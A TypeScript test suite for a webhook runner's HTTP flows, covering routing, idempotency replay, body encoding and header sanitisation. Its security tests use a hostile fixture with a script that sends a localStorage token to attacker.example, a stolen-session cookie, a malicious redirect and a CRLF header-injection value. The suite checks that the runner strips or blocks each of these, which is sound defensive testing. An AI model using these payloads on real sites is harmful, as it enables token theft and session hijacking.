import { SELF } from 'cloudflare:test';
import { describe, expect, it } from 'vitest';
import { channelObject, WEBHOOK_CHANNEL } from '../../src/objects.js';
import { webhookBody, webhookResponse } from '../../src/webhook/webhook.js';
import { injectedSession } from '../support/channel-session.js';
import { activate, seedPack, testEnv } from '../support/runtime-fixtures.js';

const HOOK_FLOW = `id: hook
type: http
nodes:
  count:
    state.get: { key: calls }
    routing: [ { to: bump } ]
  bump:
    state.set: { key: calls, value: "{{node.count.value}}x" }
    routing: [ { to: answer } ]
  answer:
    emit.response: { method: "{{in.method}}", q: "{{in.query.q}}", text: "{{in.body.text}}", ua: "{{in.headers.x-test}}", seen: "{{node.bump.value}}" }
    routing: out
`;

const PLAIN_FLOW = `id: plain
type: event
nodes:
  answer:
    emit.log: { text: "ok" }
    routing: out
`;

const CHAT_FLOW = `id: chat
type: messaging
nodes:
  hi:
    emit.response: { text: hi }
    routing: out
`;

async function setup(tenant: string): Promise<void> {
  const digest = await seedPack(`hooks-${tenant}`, '1.0.0', [HOOK_FLOW, PLAIN_FLOW, CHAT_FLOW]);
  await activate(tenant, `hooks-${tenant}`, digest);
}

describe('ANY /v1/webhook/{tenant}/{flow}', () => {
  it('runs the named http flow with the upstream request shape and returns its output as JSON', async () => {
    await setup('wh1');
    const res = await SELF.fetch('http://runner/v1/webhook/wh1/hook?q=42', { method: 'POST', body: 'hello', headers: { 'X-Test': 'yes' } });
    expect(res.status).toBe(200);
    // An emitting flow's output is the list of emitted payloads (upstream output assembly).
    const body = (await res.json()) as Record<string, string>[];
    expect(body).toEqual([{ method: 'POST', q: '42', text: 'hello', ua: 'yes', seen: 'x' }]);
  });

  it('replays the first response for a repeated Idempotency-Key without running the flow again', async () => {
    await setup('wh2');
    const call = () =>
      SELF.fetch('http://runner/v1/webhook/wh2/hook', { method: 'POST', body: 'x', headers: { 'Idempotency-Key': 'k-1' } });
    const [a, b] = await Promise.all([call(), call()]);
    const c = await call();
    const bodies = await Promise.all([a.json(), b.json(), c.json()]);
    expect(bodies[0]).toEqual(bodies[1]);
    expect(bodies[0]).toEqual(bodies[2]);
    expect(c.headers.get('idempotent-replayed')).toBe('true');
    // The state counter moved once for the key, once more for a new key.
    const fresh = (await (
      await SELF.fetch('http://runner/v1/webhook/wh2/hook', { method: 'POST', headers: { 'Idempotency-Key': 'k-2' } })
    ).json()) as { seen: string }[];
    expect(fresh[0]?.seen).toBe('xx');
  });

  it('answers an event flow whose output has no status with 200 JSON', async () => {
    await setup('wh3');
    const res = await SELF.fetch('http://runner/v1/webhook/wh3/plain', { method: 'PUT' });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual([{ text: 'ok' }]);
  });

  it('answers 404 for an unknown flow, 409 for a messaging flow and 404 for a tenant with no pack', async () => {
    await setup('wh4');
    expect((await SELF.fetch('http://runner/v1/webhook/wh4/nope')).status).toBe(404);
    const wrong = await SELF.fetch('http://runner/v1/webhook/wh4/chat');
    expect(wrong.status).toBe(409);
    expect(await wrong.json()).toMatchObject({ error: 'WrongFlowKind' });
    const none = await SELF.fetch('http://runner/v1/webhook/nobody/hook');
    expect(none.status).toBe(404);
    expect(await none.json()).toMatchObject({ error: 'NoActivePack' });
  });

  it('refuses a body above 1 MiB with 413 and a bad tenant id with 400', async () => {
    await setup('wh5');
    const big = await SELF.fetch('http://runner/v1/webhook/wh5/hook', { method: 'POST', body: new Uint8Array(1024 * 1024 + 1) });
    expect(big.status).toBe(413);
    const bad = await SELF.fetch('http://runner/v1/webhook/bad%20tenant/hook');
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ error: 'invalid_tenant' });
  });
});

describe('webhook request and response mapping (upstream §2.1)', () => {
  it('passes an empty body as null, UTF-8 as {text} and other bytes as {base16}', () => {
    expect(webhookBody(new Uint8Array())).toBeNull();
    expect(webhookBody(new TextEncoder().encode('héllo'))).toEqual({ text: 'héllo' });
    expect(webhookBody(new Uint8Array([0xff, 0x00, 0x10]))).toEqual({ base16: 'ff0010' });
  });

  it('answers a string output with a 200 text body', async () => {
    const res = webhookResponse('pong');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/plain');
    expect(await res.text()).toBe('pong');
  });

  it('takes status, headers and a {text} body from an object output', async () => {
    const res = webhookResponse({ status: 201, headers: { 'x-flow': 'hook' }, body: { text: 'created' } });
    expect(res.status).toBe(201);
    expect(res.headers.get('x-flow')).toBe('hook');
    expect(await res.text()).toBe('created');
  });

  it('unwraps a {base16} body into bytes', async () => {
    const res = webhookResponse({ status: 200, body: { base16: 'cafe' } });
    expect(new Uint8Array(await res.arrayBuffer())).toEqual(new Uint8Array([0xca, 0xfe]));
  });

  it('returns the whole object as JSON when it has no body or text', async () => {
    const res = webhookResponse({ status: 202, ok: true });
    expect(res.status).toBe(202);
    expect(await res.json()).toEqual({ status: 202, ok: true });
  });

  it('ignores a status outside 200..599', () => {
    expect(webhookResponse({ status: 42, text: 'x' }).status).toBe(200);
  });
});

// The runner serves every tenant's webhook flows and the WebChat page (which keeps its tokens in
// localStorage) from one origin: a flow's response must not run, set cookies or redirect there.
describe('flow responses on the runner origin', () => {
  const hostile = {
    status: 200,
    headers: {
      'Content-Type': 'text/html; charset=utf-8',
      'Set-Cookie': 'session=stolen; Path=/',
      Location: 'https://attacker.example/',
      'Access-Control-Allow-Origin': '*',
      'Content-Security-Policy': "script-src 'unsafe-inline'",
      'X-Flow': 'kept',
      'Cache-Control': 'no-store',
    },
    body: { text: '<script>fetch("https://attacker.example/?t=" + localStorage.getItem("greentic.webchat"))</script>' },
  };

  it('a flow cannot set cookies, redirect, open CORS or replace the CSP: those headers are dropped, allowed ones kept', () => {
    const res = webhookResponse(hostile);
    expect(res.headers.get('set-cookie')).toBeNull();
    expect(res.headers.get('location')).toBeNull();
    expect(res.headers.get('access-control-allow-origin')).toBeNull();
    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; frame-ancestors 'none'; sandbox");
    expect(res.headers.get('x-flow')).toBe('kept');
    expect(res.headers.get('cache-control')).toBe('no-store');
  });

  it('HTML, SVG, XML and script content types from a flow are served as text/plain with nosniff', () => {
    for (const type of ['text/html', 'application/xhtml+xml', 'image/svg+xml', 'text/xml', 'application/rss+xml', 'text/javascript']) {
      const res = webhookResponse({ headers: { 'content-type': type }, body: '<x/>' });
      expect(res.headers.get('content-type'), type).toBe('text/plain; charset=utf-8');
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    }
    expect(
      webhookResponse({ headers: { 'content-type': 'application/pdf' }, body: { base16: '25504446' } }).headers.get('content-type'),
    ).toBe('application/pdf');
  });

  it('every webhook answer, errors included, carries nosniff and a sandboxing CSP', async () => {
    for (const res of [webhookResponse('pong'), webhookResponse([1, 2]), await SELF.fetch('http://runner/v1/webhook/nobody/hook')]) {
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('content-security-policy')).toContain('sandbox');
    }
  });

  it('a CR/LF or an invalid name in a flow response header answers 502 with the reason', async () => {
    const crlf = webhookResponse({ headers: { 'x-a': 'ok\r\nSet-Cookie: a=b' }, body: 'x' });
    expect(crlf.status).toBe(502);
    expect(((await crlf.json()) as { message: string }).message).toContain('"x-a" contains CR, LF or NUL');
    const badName = webhookResponse({ headers: { 'bad name': 'v' }, body: 'x' });
    expect(badName.status).toBe(502);
    expect(((await badName.json()) as { message: string }).message).toContain('"bad name" is not a valid HTTP field name');
  });

  it("a run whose output is not a valid HTTP response is not recorded as its Idempotency-Key's result", async () => {
    const flow = `id: echo-headers
type: http
nodes:
  answer:
    component.exec:
      component: echo
      operation: run
      input:
        status: 200
        headers: { x-echo: "{{in.query.v}}" }
        body: { text: done }
    routing: out
`;
    const digest = await seedPack('hooks-crlf', '1.0.0', [flow]);
    await activate('wh-crlf', 'hooks-crlf', digest);
    const session = injectedSession(
      channelObject(testEnv, { env: 'dev', tenant: 'wh-crlf', team: 'default', channel: WEBHOOK_CHANNEL }, 'echo-headers'),
      {
        invoker: () => ({ invoke: async (_target, _op, input) => ({ ok: true, output: input }) }),
      },
    );
    const call = (v: string) =>
      session.runWebhook({ tenant: 'wh-crlf', flowId: 'echo-headers', input: { query: { v } }, idempotencyKey: 'same-key' });

    const bad = await call('a\nb');
    expect(bad).toMatchObject({ status: 'error', code: 'InvalidFlowOutput', replayed: false });
    const good = await call('fine');
    expect(good).toMatchObject({ status: 'done', replayed: false, output: { headers: { 'x-echo': 'fine' } } });
    expect(await call('later')).toMatchObject({ status: 'done', replayed: true, output: { headers: { 'x-echo': 'fine' } } });
  });
});
